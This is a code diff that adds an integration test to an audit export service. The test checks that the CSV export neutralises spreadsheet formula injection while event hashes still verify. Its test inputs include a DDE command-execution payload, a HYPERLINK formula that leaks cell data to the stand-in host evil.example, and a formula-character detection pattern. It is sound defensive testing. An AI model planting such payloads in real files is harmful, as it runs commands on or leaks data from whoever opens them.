@@ -5,9 +5,10 @@ import request from 'supertest';
 import { canonicalize } from 'json-canonicalize';
 import { eventHash } from '@clusterflow/engine';
 import { AuditExportService } from '../../apps/api/src/audit/export/audit-export.service';
+import { csvValue } from '../../apps/api/src/audit/export/audit-export.format';
 import { runCli } from '../support/cli';
 import { startTestApp, type TestApp } from '../support/test-app';
-import { AGENCY_A, AGENCY_B, buildAuditScenario, trailOf, type AuditScenario } from '../support/audit-scenario';
+import { AGENCY_A, AGENCY_B, AUDIT_TEMPLATE, buildAuditScenario, trailOf, type AuditScenario } from '../support/audit-scenario';
 
 /**
  * The export, over HTTP (GET /audit/export) and from the command line (run as a process on
@@ -147,6 +148,25 @@ describe('audit export', () => {
       const exported = fromCsv(res.body);
       expect(exported.events).toEqual(trailA);
       expectHeadOf(exported, AGENCY_A);
+    });
+
+    it('neutralises fields a spreadsheet would run (OWASP CSV injection), reversibly: the hashes still check', async () => {
+      const agency = 'audit-csv';
+      const actor = '-2+3+cmd|\' /C calc\'!A0';
+      const name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
+      const admin = await t.token({ userId: actor, name, agency, roles: ['agency_admin', 'auditor'] });
+      const published = await t.gql('mutation($y: String!) { publishTemplate(source: $y) { key } }', { y: AUDIT_TEMPLATE }, admin);
+      expect(published.body.errors).toBeUndefined();
+      const registered = await t.gql('mutation { registerCluster(input: { templateKey: "audit-t", name: "@SUM(1+1)" }) { id } }', {}, admin);
+      expect(registered.body.errors).toBeUndefined();
+      const raw: string = (await download('?format=csv', admin)).body;
+      // Every such field starts with a quote inside a quoted field; no cell starts with a formula character.
+      expect(raw).toContain(`,"'${actor}",`);
+      expect(raw).toContain(`,"'${name.replace(/"/g, '""')}",`);
+      for (const row of parseCsv(raw)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      const [event] = fromCsv(raw).events.map((e) => ({ ...e, actor: csvValue(e.actor), actorName: csvValue(e.actorName) }));
+      expect(event).toMatchObject({ type: 'REGISTERED', actor, actorName: name, payload: expect.objectContaining({ name: '@SUM(1+1)' }) });
+      expect(eventHash(event)).toBe(event.hash);
     });
 
     it('exports one cluster with ?cluster=, and another agency only its own', async () => {
